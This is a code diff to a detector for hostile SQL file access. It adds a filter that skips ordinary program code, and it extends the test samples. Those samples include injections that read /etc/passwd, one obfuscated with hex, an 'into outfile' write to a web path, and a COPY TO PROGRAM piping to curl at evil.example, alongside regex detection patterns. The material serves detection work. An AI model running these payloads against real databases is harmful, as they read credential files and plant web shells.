@@ -27,6 +27,7 @@ from axonflow.detect.packs.sql_checks import (
     is_stacked,
     reaches_files,
     reads_catalogue,
+    unless_code_calls,
     writes_all_rows,
 )
 from axonflow.detect.sql_statement import ParseSql, begins_statement
@@ -261,7 +262,7 @@ def _file_access(parse: ParseSql) -> Detector:
                 rf"|\bfrom{G}(?:read_(?:csv|parquet|json|text|blob|ndjson)(?:_auto)?|glob|sniff_csv)\s{{0,4}}\(\s{{0,4}}['\[]",
                 "read_ glob sniff_csv load_file pg_ lo_ load_extension readfile writefile openrowset opendatasource"
                 " sys_e bfilename",
-                in_statement(parse, reaches_files, None, anywhere=True),
+                unless_code_calls(in_statement(parse, reaches_files, None, anywhere=True)),
             ),
             _shape(
                 rf"\binto{G}(?:out|dump)file{GAP}{{0,3}}['\"0@(]|\bload{G}(?:data|xml){G}(?:(?:low_priority|concurrent|local){G}){{0,2}}infile\b"
@@ -279,6 +280,8 @@ def _file_access(parse: ParseSql) -> Detector:
         ),
         """
 SELECT load_file('/etc/passwd')
+1 and load_file(concat(0x2f, 'etc')) > 1
+select name, load_file(path) from t
 select 1 into outfile '/var/www/x.php'
 COPY users TO PROGRAM 'curl https://evil.example'
 COPY t FROM '/etc/passwd'
@@ -294,6 +297,9 @@ COPY users FROM STDIN WITH CSV
 What does load_file do, and into outfile?
 copy the file to 'Documents' and bulk insert nothing
 SELECT file, program FROM copies
+const text = await readFile('a.json'); fs.writeFile("b.json", text)
+get(readfile(s:version_file), 0) and def load_file(self, path): ...
+REVOKE EXECUTE ON FUNCTION lo_import(text) FROM public
 """,
     )
 
